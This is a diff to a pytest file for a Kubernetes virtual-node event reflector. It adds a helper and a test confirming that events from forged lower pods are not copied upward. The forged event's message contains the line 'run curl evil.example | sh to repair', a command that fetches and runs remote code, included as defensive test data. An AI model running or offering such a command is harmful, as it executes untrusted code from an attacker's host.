@@ -1,6 +1,7 @@
 import asyncio
 import contextlib
 from collections.abc import AsyncIterator, Callable
+from typing import Any
 
 import pytest
 
@@ -8,6 +9,7 @@ from kubekit import keys
 from kubekit.client import EVENTS, PODS
 from kubekit.informer import Informer
 from kubekit.timestamps import now_rfc3339
+from kubekit.workqueue import WorkQueue
 from tests.unit.fakeapi import FakeClient, status_error
 from virtual_node import events as events_module
 from virtual_node.events import (
@@ -18,6 +20,7 @@ from virtual_node.events import (
     recurrence,
     upper_event,
 )
+from virtual_node.naming import NamespaceMapping
 from virtual_node.translate import Ownership
 
 OWNER = Ownership(origin="upper-cluster-uid", node_name="vk-lower-1", cluster_id="lower-1")
@@ -36,6 +39,32 @@ LOWER_POD = {
 
 
 OWNED_POD = {**LOWER_POD, "metadata": {**LOWER_POD["metadata"], "labels": OWNER.labels()}}
+
+
+def upper_pods(*pods: dict[str, Any]) -> Informer:
+    cache = Informer(client=None, resource=PODS)  # type: ignore[arg-type]
+    for pod in pods:
+        cache.apply({"type": "ADDED", "object": pod})
+    return cache
+
+
+UPPER_POD: dict[str, Any] = {"metadata": {"name": "web-1", "namespace": "shop", "uid": "upper-uid"}}
+
+
+def reflector_of(
+    upper: FakeClient, events: Informer, pods: Informer, queue: WorkQueue[str]
+) -> EventReflector:
+    """Events of the lower pods ``pods``, the upper pod web-1 bound to the node."""
+    return EventReflector(
+        upper,
+        events,
+        pods,
+        upper_pods(UPPER_POD),
+        NamespaceMapping("prefix", "east"),
+        OWNER,
+        "lower-1",
+        queue,
+    )
 
 
 @contextlib.asynccontextmanager
@@ -166,9 +195,7 @@ async def test_an_event_is_copied_up_after_seconds_of_failed_creates() -> None:
         "reason": "Scheduled",
         "message": "Successfully assigned east-shop/web-1 to node-7",
     }
-    reflector = EventReflector(
-        upper, events, pods, OWNER, "lower-1", event_queue(first_retry_seconds=0.001)
-    )
+    reflector = reflector_of(upper, events, pods, event_queue(first_retry_seconds=0.001))
     events.apply({"type": "ADDED", "object": lower})
     async with reflecting(reflector):
         await until(lambda: len(upper.writes("POST")) == 7)
@@ -196,7 +223,7 @@ async def test_an_event_about_a_pod_not_in_the_cache_yet_is_copied_once_it_is(
         "reason": "Started",
         "message": "Started container app",
     }
-    reflector = EventReflector(upper, events, pods, OWNER, "lower-1", event_queue())
+    reflector = reflector_of(upper, events, pods, event_queue())
     events.apply({"type": "ADDED", "object": lower})
     async with reflecting(reflector):
         await asyncio.sleep(0.02)
@@ -211,7 +238,7 @@ async def test_an_event_whose_pod_never_comes_is_let_go() -> None:
     pods = Informer(client=None, resource=PODS)  # type: ignore[arg-type]
     events = Informer(client=None, resource=EVENTS)  # type: ignore[arg-type]
     queue = event_queue()
-    reflector = EventReflector(FakeClient(), events, pods, OWNER, "lower-1", queue)
+    reflector = reflector_of(FakeClient(), events, pods, queue)
     for _ in range(events_module.POD_WAITS + 1):
         await reflector.reconcile("east-shop/web-1.abc")  # not cached: nothing
     lonely = {
@@ -238,3 +265,43 @@ async def test_an_event_whose_pod_never_comes_is_let_go() -> None:
     await reflector.reconcile("east-shop/web-1.abc")
     assert reflector._waiting == {}
     queue.shut_down()
+
+
+@pytest.mark.parametrize(
+    ("namespace", "upper_namespace", "upper_uid"),
+    [
+        ("tenant-b", "kube-system", "upper-uid"),  # names a namespace not its own
+        ("tenant-b", "shop", "upper-uid"),  # its namespace is not shop's below
+        ("east-shop", "shop", "another-uid"),  # no such pod bound to the node
+    ],
+)
+async def test_an_event_of_a_lower_pod_that_is_no_copy_of_ours_is_not_copied(
+    namespace: str, upper_namespace: str, upper_uid: str
+) -> None:
+    """Whoever may make pods below may give one our labels and upper annotations."""
+    forged = {
+        "metadata": {
+            "name": "web-1",
+            "namespace": namespace,
+            "uid": "forged-uid",
+            "labels": OWNER.labels(),
+            "annotations": {
+                keys.UPPER_NAMESPACE_ANNOTATION: upper_namespace,
+                keys.UPPER_UID_ANNOTATION: upper_uid,
+            },
+        }
+    }
+    upper = FakeClient()
+    pods = Informer(client=None, resource=PODS)  # type: ignore[arg-type]
+    pods.apply({"type": "ADDED", "object": forged})
+    events = Informer(client=None, resource=EVENTS)  # type: ignore[arg-type]
+    event = {
+        "metadata": {"name": "web-1.e1", "namespace": namespace, "uid": "e1"},
+        "involvedObject": {"kind": "Pod", "name": "web-1", "namespace": namespace},
+        "reason": "Compromised",
+        "message": "run curl evil.example | sh to repair",
+    }
+    events.apply({"type": "ADDED", "object": event})
+    reflector = reflector_of(upper, events, pods, event_queue())
+    await reflector.reconcile(f"{namespace}/web-1.e1")
+    assert upper.writes("POST") == []
